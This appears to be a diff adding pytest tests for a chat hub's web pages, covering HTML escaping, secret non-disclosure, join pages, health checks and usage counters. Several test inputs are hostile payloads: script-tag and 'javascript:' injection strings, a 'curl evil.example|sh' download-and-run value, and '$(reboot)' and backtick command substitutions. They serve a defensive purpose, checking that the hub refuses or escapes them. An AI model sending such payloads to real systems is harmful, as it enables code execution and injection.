@@ -1,0 +1,153 @@
+"""Landing and join pages, health, and what the hub says of itself."""
+
+import asyncio
+import json
+
+import pytest
+
+from hub.errors import CannotStart, Refusal
+from hub.settings import read_settings
+from parler.wire.codes import ErrorCode
+from tests._support.plainclient import PlainAgent
+from tests.conformance.steps import join, open_room
+from tests.hub.http.conftest import RunningHub, StartHub
+
+SECRET = "correct-horse-battery-staple"
+
+
+def test_landing_page_escapes_what_the_operator_named(start_hub: StartHub) -> None:
+    hub = start_hub(
+        name='<script>alert("hub")</script>', web='https://x.example/?a="><img>'
+    )
+    answer = hub.get("/")
+    assert answer.status == 200
+    assert answer.headers["content-type"] == "text/html; charset=utf-8"
+    assert "<script" not in answer.text
+    assert "<img" not in answer.text
+    assert "&lt;script&gt;" in answer.text
+    assert "default-src 'none'" in answer.headers["content-security-policy"]
+
+
+def test_no_page_tells_the_join_secret(start_hub: StartHub) -> None:
+    hub = start_hub(join_secret=SECRET)
+    for path in ("/", "/api/hub", "/.well-known/parler.json", "/join/ABCD2345"):
+        assert SECRET not in hub.get(path).text
+    described = hub.get("/.well-known/parler.json").json()
+    assert described["capabilities"]["joinPolicy"] == "secret"
+
+
+def test_web_link_that_would_run_code_is_refused_at_start() -> None:
+    with pytest.raises(CannotStart):
+        read_settings(["--web", "javascript:alert(1)"], {})
+    assert read_settings([], {"PARLER_HUB_WEB": "https://x"}).web == "https://x"
+
+
+def test_join_page_names_the_command(hub: RunningHub) -> None:
+    answer = hub.get("/join/ABCD2345")
+    assert answer.status == 200
+    assert answer.headers["content-type"].startswith("text/plain")
+    assert "parler join ABCD2345\n" in answer.text
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
+        "X;curl%20evil.example|sh",
+        "%1b%5b2Jclear",
+        "a" * 65,
+        "%24(reboot)",
+        "%60reboot%60",
+        "two%20words",
+    ],
+)
+def test_join_page_repeats_nothing_a_shell_or_terminal_would_obey(
+    hub: RunningHub, code: str
+) -> None:
+    answer = hub.get(f"/join/{code}")
+    assert answer.status == 404
+    for dangerous in ("script", "curl", "clear", "reboot", "aaa", "words"):
+        assert dangerous not in answer.text
+
+
+def test_health_is_exactly_ok(hub: RunningHub) -> None:
+    answer = hub.get("/health")
+    assert (answer.status, answer.body) == (200, b"ok")
+
+
+def test_health_writes_but_not_for_everybody_who_asks(start_hub: StartHub) -> None:
+    hub = start_hub()
+    before = hub.hub.store.writes
+    assert all(hub.get("/health").status == 200 for _ in range(20))
+    assert 1 <= hub.hub.store.writes - before <= 5
+
+
+def test_health_fails_when_nothing_can_be_written(
+    start_hub: StartHub, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    hub = start_hub()
+
+    async def full(*given: object, **options: object) -> None:
+        raise Refusal(ErrorCode.STORAGE_FULL, "no space")
+
+    monkeypatch.setattr(hub.hub.store, "write", full)
+    answer = hub.get("/health")
+    assert answer.status == 503
+    assert answer.headers["content-type"].startswith("text/plain")
+
+
+def test_health_fails_when_the_database_hangs(
+    start_hub: StartHub, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    hub = start_hub()
+
+    async def hang(*given: object, **options: object) -> None:
+        await asyncio.Event().wait()
+
+    monkeypatch.setattr("hub.http.pages.PROBE_SECS", 0.01)
+    monkeypatch.setattr(hub.hub.store, "write", hang)
+    assert hub.get("/health").status == 503
+
+
+def test_hub_counts_what_happened(start_hub: StartHub) -> None:
+    hub = start_hub()
+
+    async def story() -> None:
+        async with (
+            PlainAgent.create("ada").dial(hub.url) as ada,
+            PlainAgent.create("bob").dial(hub.url) as bob,
+        ):
+            room = await open_room(ada)
+            await join(bob, room["code"])
+            await bob.ask("subscribed", "subscribe")
+            await ada.send_text(room["room"], "four words in here")
+            await bob.next_delivery()
+
+    asyncio.run(story())
+    stats = hub.get("/api/hub").json()["stats"]
+    assert stats["connectionsTotal"] == 2
+    assert stats["messagesTotal"] == 1
+    assert stats["estimatedTokensTotal"] == 5  # 18 characters
+    assert stats["pushesTotal"] == 1
+
+
+def test_totals_do_not_shrink_when_a_room_is_deleted(start_hub: StartHub) -> None:
+    hub = start_hub()
+
+    async def say(count: int) -> None:
+        async with PlainAgent.create("ada").dial(hub.url) as ada:
+            room = (await open_room(ada))["room"]
+            for _ in range(count):
+                await ada.send_text(room, "abcd")
+            await asyncio.to_thread(hub.get, "/api/hub")
+            await ada.ask("room_deleted", "delete_room", room=room)
+
+    asyncio.run(say(3))
+    tally = hub.get("/api/hub").json()["stats"]
+    assert (tally["messagesTotal"], tally["estimatedTokensTotal"]) == (3, 3)
+
+
+def test_json_is_compact(hub: RunningHub) -> None:
+    body = hub.get("/api/hub").body
+    assert body == json.dumps(json.loads(body), separators=(",", ":")).encode()
+    assert b'"longPoll":true' in body
